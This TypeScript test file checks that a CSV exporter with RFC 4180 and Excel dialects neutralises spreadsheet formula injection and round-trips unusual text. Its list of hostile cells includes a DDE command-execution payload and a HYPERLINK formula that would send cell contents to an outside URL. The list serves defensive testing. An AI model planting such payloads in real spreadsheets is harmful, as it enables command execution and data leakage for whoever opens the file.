import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type CsvDialect, csvFile, EXCEL, RFC4180 } from "../../scripts/outputs/csv.ts";
import { hostileText } from "../support/problems.ts";

const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.se/?x="&A1,"Klicka")',
  "+1",
  "-1",
  "@SUM(1+1)",
  "\t=1",
  "\r=1",
  "\n=1",
  "\0=1",
  " =1",
  "＝1",
  "'",
  "'=1",
  "''",
  '"',
  '""',
  '";=1;"',
  ",",
  ";",
  "\r\n",
  "\uFEFFa",
  "a\u2028b\u2029c\u0085d",
  "\u202Eabc",
  "👩‍👩‍👧 å",
  " ledande och släpande ",
  "",
];

/** Cells as they may be in the worst content. Half characters cannot stand in UTF-8. */
const text = fc.oneof(fc.constantFrom(...HOSTILE), hostileText).filter((value) => !/\p{Cs}/u.test(value));
const table = fc
  .integer({ min: 2, max: 5 })
  .chain((columns) =>
    fc.array(fc.array(text, { minLength: columns, maxLength: columns }), { minLength: 1, maxLength: 6 }),
  );

const DIALECTS: [name: string, dialect: CsvDialect][] = [
  ["RFC 4180", RFC4180],
  ["Excel", EXCEL],
];

const headerOf = (rows: string[][]): string[] => rows[0]?.map((_, i) => `kolumn_${i}`) ?? [];

/** What another program reads out of a file of ours, its header first. It must be told nothing but the separator. */
const readBack = (rows: string[][], { separator, bom }: CsvDialect): string[][] =>
  parse(csvFile(headerOf(rows), rows, { separator, bom }), { delimiter: separator, bom, record_delimiter: "\r\n" });

/** What the page about the open data tells every reader of the files to do. */
const unmarked = (cell: string): string => cell.replace(/^'/, "");

describe.each(DIALECTS)("a file in the dialect %s", (_, dialect) => {
  it("reads back as the same texts, whatever they are", () => {
    fc.assert(
      fc.property(table, (rows) => {
        const [header, ...back] = readBack(rows, dialect);
        expect(header).toEqual(headerOf(rows));
        expect(back.map((row) => row.map(unmarked))).toEqual(rows);
      }),
      { numRuns: 1000 },
    );
  });

  it("has no cell that a spreadsheet would run", () => {
    fc.assert(
      fc.property(table, (rows) => {
        for (const cell of readBack(rows, dialect).flat())
          expect(cell.replace(/^\s+/, "")).not.toMatch(/^[=+\-@＝＋－＠]/);
      }),
      { numRuns: 1000 },
    );
  });

  it("leaves ordinary texts as they are", () => {
    const rows = [["Skåne", "10–20 procent", "3-4 dagar", "a'b", "2020-05-07 13:00"]];
    expect(csvFile(["a", "b", "c", "d", "e"], rows, dialect).toString("utf8").split("\r\n")[1]).toBe(
      ["Skåne", "10–20 procent", "3-4 dagar", `"a'b"`, "2020-05-07 13:00"].join(dialect.separator),
    );
  });
});

it("only the one for Excel begins with a byte order mark, and both end each line with CR LF", () => {
  const [rfc, excel] = [RFC4180, EXCEL].map((dialect) => csvFile(["a", "b"], [["1", "2"]], dialect).toString("utf8"));
  expect(rfc).toBe("a,b\r\n1,2\r\n");
  expect(excel).toBe("\uFEFFa;b\r\n1;2\r\n");
});

it("what the other dialect takes for a separator is quoted in both", () => {
  expect(csvFile(["a;b", "c,d"], [], RFC4180).toString()).toBe('"a;b","c,d"\r\n');
  expect(csvFile(["a;b", "c,d"], [], EXCEL).toString()).toBe('\uFEFF"a;b";"c,d"\r\n');
});
